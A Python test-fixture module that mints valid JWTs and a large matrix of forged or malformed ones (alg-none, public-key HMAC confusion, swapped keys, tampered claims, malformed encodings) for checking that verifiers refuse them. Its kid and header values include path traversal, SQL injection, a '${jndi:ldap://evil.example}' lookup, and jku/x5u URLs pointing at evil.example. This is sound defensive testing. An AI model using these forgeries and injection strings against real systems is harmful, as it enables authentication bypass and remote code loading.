"""Good tokens of each kind, and every way in which one can be bad: the attack matrix, once, for all verifiers.

    mint = MINTS["user-ES256"]
    mint.good(now)                          # believed
    ATTACKS["alg none"](mint, now)          # refused, whatever the kind

Every attack takes a mint and the time and gives a token, most of them truly signed by the issuer's own key, so that
nothing but the flaw itself can be why it is refused.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

CLERK = "https://clerk.example.com"
OWN = "https://login.alice.example"
PARTY = "https://console.example.com"
AUDIENCE = "https://api.alice.example"
ORG = "org_demo"
OUR_MACHINE = "mch_gateway"
MACHINE = "mch_caller"

RSA = rsa.generate_private_key(public_exponent=65537, key_size=2048)
EC = ec.generate_private_key(ec.SECP256R1())
ED = ed25519.Ed25519PrivateKey.generate()
EVIL: dict[str, Any] = {
    "RS256": rsa.generate_private_key(public_exponent=65537, key_size=2048),
    "ES256": ec.generate_private_key(ec.SECP256R1()),
    "EdDSA": ed25519.Ed25519PrivateKey.generate(),
}
EVIL["PS256"] = EVIL["RS256"]
GONE = object()
"""A claim or header member that is left out."""

Claims = dict[str, Any]


def b64(octets: bytes) -> str:
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def unb64(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def compact(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def sign(algorithm: str, key: Any, signed: bytes) -> bytes:
    return jwt.get_algorithm_by_name(algorithm).sign(signed, key)


def pem(key: Any) -> bytes:
    form = serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    return key.public_key().public_bytes(*form)


def jwk(key: Any, kid: str | None, **more: Any) -> Claims:
    algorithm = {rsa.RSAPrivateKey: "RSA", ec.EllipticCurvePrivateKey: "EC"}
    name = next((name for kind, name in algorithm.items() if isinstance(key, kind)), "OKP")
    takes = {"RSA": jwt.algorithms.RSAAlgorithm, "EC": jwt.algorithms.ECAlgorithm, "OKP": jwt.algorithms.OKPAlgorithm}
    members = takes[name].to_jwk(key.public_key(), as_dict=True)
    members.pop("key_ops", None)
    members = {**members, "kid": kid, "use": "sig", **more}
    return {name: value for name, value in members.items() if value is not None}


def jwks(*keys: Claims) -> bytes:
    return json.dumps({"keys": keys}).encode()


@dataclass(frozen=True)
class Mint:
    """One issuer's way of making one kind of token. `kind` is what the edge classifies its tokens as."""

    kind: str
    algorithm: str
    key: Any
    said: Callable[[float], Claims]
    header: Claims = field(default_factory=dict)
    kid: str = "key-1"

    def good(self, now: float) -> str:
        return self.token(now)

    def token(self, now: float, header: Claims | None = None, **claims: Any) -> str:
        """Truly signed, with these changes; GONE leaves a member out."""
        head = {"alg": self.algorithm, "kid": self.kid, **self.header, **(header or {})}
        return self.signed(_without_gone(head), _without_gone({**self.said(now), **claims}))

    def signed(self, header: Claims | bytes, claims: Claims | bytes) -> str:
        """Truly signed, whatever the parts are."""
        parts = [part if isinstance(part, bytes) else compact(part) for part in (header, claims)]
        signed = ".".join(b64(part) for part in parts).encode()
        return f"{signed.decode()}.{b64(sign(self.algorithm, self.key, signed))}"

    def parts(self, now: float) -> tuple[Claims, Claims]:
        header, claims, _ = self.good(now).split(".")
        return json.loads(unb64(header)), json.loads(unb64(claims))


def _without_gone(members: Claims) -> Claims:
    return {name: value for name, value in members.items() if value is not GONE}


def _session(now: float) -> Claims:
    return {
        "iss": CLERK, "sub": "user_alice", "sid": "sess_alice", "iat": now - 5, "nbf": now - 15, "exp": now + 55,
        "azp": PARTY, "v": 2, "sts": "active", "fea": "o:posts",
        "o": {"id": ORG, "slg": "demo", "rol": "admin", "per": "read", "fpm": "1"},
    }  # fmt: skip


def _user(now: float, iss: str) -> Claims:
    return {"iss": iss, "sub": "bob", "aud": AUDIENCE, "iat": now - 5, "exp": now + 300, "scope": "posts:read"}


def _access(now: float, iss: str) -> Claims:
    return {
        "iss": iss, "sub": "bob", "aud": [AUDIENCE, "other"], "iat": now - 5, "exp": now + 300, "jti": "t-1",
        "client_id": "app", "scope": "posts:read",
    }  # fmt: skip


def _clerk_access(now: float) -> Claims:
    return {
        "iss": CLERK, "sub": "user_alice", "iat": now - 5, "nbf": now - 5, "exp": now + 86_400, "jti": "oat_1",
        "client_id": "app", "scp": ["posts:read"], "org_id": ORG,
    }  # fmt: skip


def _machine(now: float) -> Claims:
    return {
        "iss": CLERK, "sub": MACHINE, "iat": now - 5, "nbf": now - 5, "exp": now + 300, "jti": "mt_1",
        "aud": [OUR_MACHINE], "scopes": OUR_MACHINE,
    }  # fmt: skip


_JWT = {"typ": "JWT"}
_AT = {"typ": "at+jwt"}
MINTS = {
    "session": Mint("session", "RS256", RSA, _session, {**_JWT, "cat": "cl_B7d4PD111AAA"}, "ins_1"),
    "access-clerk": Mint("access_token", "RS256", RSA, _clerk_access, _AT, "ins_1"),
    "machine": Mint("machine_token", "RS256", RSA, _machine, {**_JWT, "cat": "cl_B7d4PD333AAA"}, "ins_1"),
}


def _own(name: str, kind: str, algorithm: str, key: Any, said: Callable[..., Claims], header: Claims) -> None:
    MINTS[name] = Mint(kind, algorithm, key, functools.partial(said, iss=f"{OWN}/{name}"), header)


_own("user-RS256", "user_token", "RS256", RSA, _user, _JWT)
_own("user-PS256", "user_token", "PS256", RSA, _user, _JWT)
_own("user-ES256", "user_token", "ES256", EC, _user, {})
_own("user-EdDSA", "user_token", "EdDSA", ED, _user, {"typ": "jwt"})
_own("access-own", "access_token", "ES256", EC, _access, {"typ": "application/at+jwt"})
Attack = Callable[[Mint, float], str]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def keep(make: Attack) -> Attack:
        ATTACKS[name] = make
        return make

    return keep


def _headed(name: str, **members: Any) -> None:
    ATTACKS[name] = lambda mint, now: mint.token(now, members)


def _saying(name: str, **claims: Any) -> None:
    ATTACKS[name] = lambda mint, now: mint.token(now, **claims)


def _timed(name: str, **offsets: float) -> None:
    ATTACKS[name] = lambda mint, now: mint.token(now, **{claim: now + by for claim, by in offsets.items()})


# --- Algorithms (RFC 8725 sections 2.1, 3.1) ------------------------------------------------------------------------


def _unsigned(name: str) -> Attack:
    def make(mint: Mint, now: float) -> str:
        header, claims = mint.parts(now)
        return f"{b64(compact({**header, 'alg': name}))}.{b64(compact(claims))}."

    return make


for _name in ("none", "None", "nOnE", ""):
    ATTACKS[f"alg {_name!r} without a signature"] = _unsigned(_name)
for _name in ("none", "RS384", "RS512", "PS512", "ES384", "ES256K", "HS256", "rs256", "", 256, None, ["RS256"]):
    _headed(f"alg {_name!r} over a true signature", alg=_name)


@attack("alg none with the true signature kept")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    signature = mint.good(now).rpartition(".")[2]
    return f"{b64(compact({**header, 'alg': 'none'}))}.{b64(compact(claims))}.{signature}"


def _by_public_key(encoding: serialization.Encoding) -> Attack:
    """The classic confusion: the public key, which everybody has, as if it were a shared secret."""

    def make(mint: Mint, now: float) -> str:
        header, claims = mint.parts(now)
        secret = mint.key.public_key().public_bytes(encoding, serialization.PublicFormat.SubjectPublicKeyInfo)
        signed = f"{b64(compact({**header, 'alg': 'HS256'}))}.{b64(compact(claims))}"
        return f"{signed}.{b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"

    return make


ATTACKS["HS256 by the public key in PEM"] = _by_public_key(serialization.Encoding.PEM)
ATTACKS["HS256 by the public key in DER"] = _by_public_key(serialization.Encoding.DER)


def _by_another_algorithm(algorithm: str) -> Attack:
    """A true signature by a key of its own of another algorithm, which the header names."""

    def make(mint: Mint, now: float) -> str:
        named = algorithm if algorithm != mint.algorithm else "PS256" if algorithm == "RS256" else "RS256"
        evil = replace(mint, algorithm=named, key=EVIL[named])
        return evil.token(now)

    return make


for _name in ("RS256", "PS256", "ES256", "EdDSA"):
    ATTACKS[f"signed by {_name} of another key"] = _by_another_algorithm(_name)


@attack("the other padding of the same RSA key, or the true header over it")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    signed = f"{b64(compact(header))}.{b64(compact(claims))}".encode()
    other = "PS256" if mint.algorithm == "RS256" else "RS256"
    key = mint.key if mint.key is RSA else EVIL["RS256"]
    return f"{signed.decode()}.{b64(sign(other, key, signed))}"


@attack("the other RSA algorithm, named and true")
def _(mint: Mint, now: float) -> str:
    other = "PS256" if mint.algorithm == "RS256" else "RS256"
    key = mint.key if mint.key is RSA else EVIL["RS256"]
    return replace(mint, algorithm=other, key=key).token(now)


# --- Signatures -----------------------------------------------------------------------------------------------------


@attack("another key under the same kid")
def _(mint: Mint, now: float) -> str:
    return replace(mint, key=EVIL[mint.algorithm]).token(now)


@attack("claims changed under the true signature")
def _(mint: Mint, now: float) -> str:
    header, _, signature = mint.good(now).split(".")
    return f"{header}.{b64(compact({**mint.said(now), 'sub': 'user_root'}))}.{signature}"


def _resigned(change: Callable[[bytes], bytes]) -> Attack:
    def make(mint: Mint, now: float) -> str:
        signed, _, signature = mint.good(now).rpartition(".")
        return f"{signed}.{b64(change(unb64(signature)))}"

    return make


ATTACKS["no signature"] = _resigned(lambda signature: b"")
ATTACKS["a signature cut short"] = _resigned(lambda signature: signature[:-1])
ATTACKS["a longer signature"] = _resigned(lambda signature: signature + b"\x00")
ATTACKS["a signature with one bit turned"] = _resigned(lambda signature: signature[:-1] + bytes((signature[-1] ^ 1,)))
ATTACKS["a signature of zeros"] = _resigned(lambda signature: bytes(len(signature)))
ATTACKS["a signature of 64 zeros"] = _resigned(lambda signature: bytes(64))


@attack("an ECDSA signature in DER")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    signed = f"{b64(compact({**header, 'alg': 'ES256'}))}.{b64(compact(claims))}"
    return f"{signed}.{b64(EC.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))}"


@attack("an RSA signature over another digest")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    signed = f"{b64(compact(header))}.{b64(compact(claims))}"
    return f"{signed}.{b64(RSA.sign(signed.encode(), padding.PKCS1v15(), hashes.SHA1()))}"


# --- Whose key (RFC 8725 section 3.10) ------------------------------------------------------------------------------

for _name, _kid in {
    "unknown": "key-of-nobody", "a path": "../../../../dev/null", "SQL": "' OR '1'='1' -- ", "huge": "k" * 4_000,
    "empty": "", "a number": 1, "a list": ["key-1"], "null": None, "an object": {"kid": "key-1"}, "a NUL": "key-1\x00",
    "a line end": "key-1\n", "a template": "${jndi:ldap://evil.example}", "other letters": "kéy-1",
}.items():  # fmt: skip
    _headed(f"kid is {_name}", kid=_kid)


def _own_source(**members: Any) -> Attack:
    """RFC 8725 section 3.10: a key that the token itself brings or points at."""

    def make(mint: Mint, now: float) -> str:
        evil = replace(mint, key=EVIL[mint.algorithm])
        brought = {name: value(evil) if callable(value) else value for name, value in members.items()}
        return evil.token(now, brought)

    return make


ATTACKS["a key it brings along (jwk)"] = _own_source(jwk=lambda evil: jwk(evil.key, evil.kid))
ATTACKS["a key set it points at (jku)"] = _own_source(jku="https://evil.example/jwks.json")
ATTACKS["a certificate it points at (x5u)"] = _own_source(x5u="https://evil.example/cert.pem")
ATTACKS["a certificate it brings along (x5c)"] = _own_source(
    x5c=lambda evil: [base64.b64encode(pem(evil.key)).decode()]
)
_headed("crit over a claim", crit=["exp"], exp=1)
_headed("crit with b64", crit=["b64"], b64=False)
_headed("crit that is empty", crit=[])
_headed("crit that is null", crit=None)

# --- Which kind of token (RFC 8725 section 3.11) --------------------------------------------------------------------

for _name in ("at+jwt", "JWT", "dpop+jwt", "secevent+jwt", "JWE", "at+jwt;x", "", 7, ["JWT"]):

    def _typed(mint: Mint, now: float, name: Any = _name) -> str:
        is_access = str(mint.header.get("typ", "")).endswith("at+jwt")
        other = {"at+jwt": "JWT"} if is_access else {"JWT": "at+jwt"}
        return mint.token(now, {"typ": other.get(name, name) if isinstance(name, str) else name})

    ATTACKS[f"typ is {_name!r} (or its opposite)"] = _typed


# --- What it says ---------------------------------------------------------------------------------------------------

for _name, _value in {
    "gone": GONE, "another": "https://evil.example", "null": None, "a number": 1, "a list": [CLERK, OWN],
    "empty": "", "an object": {"iss": OWN},
}.items():  # fmt: skip
    _saying(f"iss is {_name}", iss=_value)
ATTACKS["iss has a slash more"] = lambda mint, now: mint.token(now, iss=mint.said(now)["iss"] + "/")
ATTACKS["iss is in capitals"] = lambda mint, now: mint.token(now, iss=mint.said(now)["iss"].upper())
ATTACKS["iss has a NUL behind"] = lambda mint, now: mint.token(now, iss=mint.said(now)["iss"] + "\x00")

for _name, _value in {
    "gone": GONE, "null": None, "true": True, "text": "4102444800", "a list": [4_102_444_800], "zero": 0,
    "negative": -1, "huge": 10**400, "beyond the year 10000": 10**15, "an object": {}, "infinite": float("inf"),
    "not a number": float("nan"), "minus infinity": float("-inf"),
}.items():  # fmt: skip
    _saying(f"exp is {_name}", exp=_value)
_timed("expired", exp=-6, iat=-100, nbf=-100)
_timed("not yet, by nbf", nbf=60)
_timed("not yet, by iat", iat=60)
for _claim in ("iat", "nbf"):
    for _name, _value in {
        "text": "1",
        "true": True,
        "not a number": float("nan"),
        "huge": 10**400,
        "null": None,
    }.items():
        _saying(f"{_claim} is {_name}", **{_claim: _value})

for _name, _value in {
    "gone": GONE, "empty": "", "null": None, "a number": 7, "a list": ["bob"], "an object": {"id": "bob"},
    "too long": "user_mch_" + "b" * 300, "two lines": "user_bob\r\nX-Admin: 1", "half a character": "user_\ud800",
    "a NUL": "user_bob\x00",
}.items():  # fmt: skip
    _saying(f"sub is {_name}", sub=_value)
_saying("cnf with a key's thumbprint (RFC 9449)", cnf={"jkt": "x"})
_saying("cnf with a certificate's thumbprint (RFC 8705)", cnf={"x5t#S256": "x"})
_saying("cnf that is null", cnf=None)

# --- How it is written ----------------------------------------------------------------------------------------------


@attack("a claim twice")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(header, compact(claims)[:-1] + b',"sub":%b}' % compact(claims["sub"]))


@attack("a claim twice, once escaped")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(header, compact(claims)[:-1] + b',"s\\u0075b":"user_root"}')


@attack("a nested member twice")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(header, compact(claims)[:-1] + b',"x":{"a":1,"a":2}}')


@attack("a header member twice")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(compact(header)[:-1] + b',"alg":%b}' % compact(header["alg"]), claims)


@attack("100 KB")
def _(mint: Mint, now: float) -> str:
    return mint.token(now, padding="x" * 100_000)


@attack("a little over 8 KB")
def _(mint: Mint, now: float) -> str:
    return mint.token(now, padding="x" * 6_200)


@attack("claims nested without end")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(header, compact(claims)[:-1] + b',"x":' + b"[" * 2_400 + b"]" * 2_400 + b"}")


@attack("a header nested without end")
def _(mint: Mint, now: float) -> str:
    header, claims = mint.parts(now)
    return mint.signed(compact(header)[:-1] + b',"x":' + b"[" * 2_400 + b"]" * 2_400 + b"}", claims)


def _written(change: Callable[[bytes], bytes]) -> Attack:
    def make(mint: Mint, now: float) -> str:
        header, claims = mint.parts(now)
        return mint.signed(header, change(compact(claims)))

    return make


ATTACKS["claims that are a list"] = _written(lambda claims: b"[" + claims + b"]")
ATTACKS["claims that are text"] = _written(lambda claims: compact(claims.decode()))
ATTACKS["claims that break off"] = _written(lambda claims: claims[:-1])
ATTACKS["claims with something behind"] = _written(lambda claims: claims + b"{}")
ATTACKS["claims in UTF-16"] = _written(lambda claims: claims.decode().encode("utf-16"))
ATTACKS["claims with a byte order mark"] = _written(lambda claims: b"\xef\xbb\xbf" + claims)
ATTACKS["claims in no encoding"] = _written(lambda claims: claims[:-1] + b',"x":"\xff\xfe"}')
ATTACKS["no claims"] = _written(lambda claims: b"")
ATTACKS["a number too long to read"] = _written(lambda claims: claims[:-1] + b',"x":' + b"9" * 4_400 + b"}")


def _spelled(change: Callable[[str], str]) -> Attack:
    return lambda mint, now: change(mint.good(now))


def _second_spelling(token: str) -> str:
    """Other bits behind the end of the signature: the same octets, another text (RFC 4648 section 3.5)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet.index(token[-1])
    return token[:-1] + alphabet[last ^ 1]


ATTACKS["two parts"] = _spelled(lambda token: token.rpartition(".")[0])
ATTACKS["four parts"] = _spelled(lambda token: token + ".e30")
ATTACKS["five parts, as a JWE"] = _spelled(lambda token: token + ".e30.e30")
ATTACKS["a part too many in front"] = _spelled(lambda token: "e30." + token)
ATTACKS["padding"] = _spelled(lambda token: token + "=")
ATTACKS["a space inside"] = _spelled(lambda token: token.replace(".", ". ", 1))
ATTACKS["quotes around"] = _spelled(lambda token: f'"{token}"')
ATTACKS["standard base64"] = _spelled(lambda token: token[:-4] + "+/+/")
ATTACKS["a second spelling of the signature"] = _spelled(_second_spelling)
ATTACKS["a letter more"] = _spelled(lambda token: token + "A")
ATTACKS["the header alone"] = _spelled(lambda token: token.split(".", maxsplit=1)[0])
ATTACKS["nothing but dots"] = _spelled(lambda token: "..")

# --- What is particular to a kind -----------------------------------------------------------------------------------

_PARTICULAR: dict[str, dict[str, tuple[Claims, Claims]]] = {
    "session": {
        "another azp": ({}, {"azp": "https://evil.example"}),
        "azp with a slash": ({}, {"azp": PARTY + "/"}),
        "pending": ({}, {"sts": "pending"}),
        "version 3": ({}, {"v": 3}),
        "no sid": ({}, {"sid": GONE}),
        "another organisation": ({}, {"o": {"id": "org_charlie", "rol": "admin"}}),
        "no organisation": ({}, {"o": GONE}),
        "its organisation in the words of version 1 only": ({}, {"o": GONE, "org_id": ORG}),
        "a life too long": ({}, {"exp": 4_102_444_800}),
        "a template's category": ({"cat": "cl_B7d4PD222AAA"}, {}),
        "a machine's category": ({"cat": "cl_B7d4PD333AAA"}, {}),
        "a category unknown": ({"cat": "cl_X"}, {}),
        "no kid": ({"kid": GONE}, {}),
        "a machine's subject": ({}, {"sub": MACHINE}),
        "an organisation's subject": ({}, {"sub": ORG}),
        "no iat": ({}, {"iat": GONE}),
        "no nbf": ({}, {"nbf": GONE}),
    },
    "user_token": {
        "no aud": ({}, {"aud": GONE}),
        "another aud": ({}, {"aud": "https://api.charlie.example"}),
        "aud of wrong form": ({}, {"aud": {"x": AUDIENCE}}),
        "aud with a number": ({}, {"aud": [AUDIENCE, 7]}),
        "aud empty": ({}, {"aud": []}),
        "aud that merely begins alike": ({}, {"aud": AUDIENCE + ".evil.example"}),
        "scope of wrong form": ({}, {"scope": {"x": 1}}),
        "scp with a number": ({}, {"scope": GONE, "scp": ["a", 7]}),
        "scope with a line end": ({}, {"scope": "posts:read\r\nadmin"}),
        "the category of a machine of Clerk": ({"cat": "cl_B7d4PD333AAA"}, {}),
        "client_id of wrong form": ({}, {"client_id": 7}),
    },
    "access_token": {
        "no client_id": ({}, {"client_id": GONE}),
        "no jti": ({}, {"jti": GONE}),
        "no iat": ({}, {"iat": GONE}),
        "another aud": ({}, {"aud": "https://api.charlie.example"}),
        "aud of wrong form": ({}, {"aud": 7}),
        "client_id of wrong form": ({}, {"client_id": ["app"]}),
        "jti of wrong form": ({}, {"jti": 7}),
        "scope of wrong form": ({}, {"scope": 7}),
    },
    "machine_token": {
        "meant for another machine": ({}, {"aud": ["mch_other"], "scopes": "mch_other"}),
        "meant for nobody": ({}, {"aud": GONE, "scopes": GONE}),
        "a machine of another tenant": ({}, {"sub": "mch_of_charlie"}),
        "a user's subject": ({}, {"sub": "user_alice"}),
        "a session's category": ({"cat": "cl_B7d4PD111AAA"}, {}),
        "scopes that merely begin alike": ({}, {"aud": GONE, "scopes": OUR_MACHINE + "_2"}),
        "aud of wrong form": ({}, {"aud": [7]}),
        "no iat": ({}, {"iat": GONE}),
    },
}
_OF_ONE: dict[str, dict[str, tuple[Claims, Claims]]] = {
    "access-own": {"no aud": ({}, {"aud": GONE})},
    "access-clerk": {
        "another organisation": ({}, {"org_id": "org_charlie"}),
        "no organisation": ({}, {"org_id": GONE}),
        "a machine's subject": ({}, {"sub": MACHINE}),
        "no kid": ({"kid": GONE}, {}),
    },
    "machine": {"no kid": ({"kid": GONE}, {})},
}


def matrix() -> list[tuple[str, str, Attack]]:
    """Give (mint, attack, maker) for every attack on every kind of token."""
    rows = [(mint, name, make) for mint in MINTS for name, make in ATTACKS.items()]
    for mint, kind in MINTS.items():
        for name, (header, claims) in {**_PARTICULAR[kind.kind], **_OF_ONE.get(mint, {})}.items():
            rows.append((mint, name, lambda m, now, h=header, c=claims: m.token(now, h, **c)))
    return rows
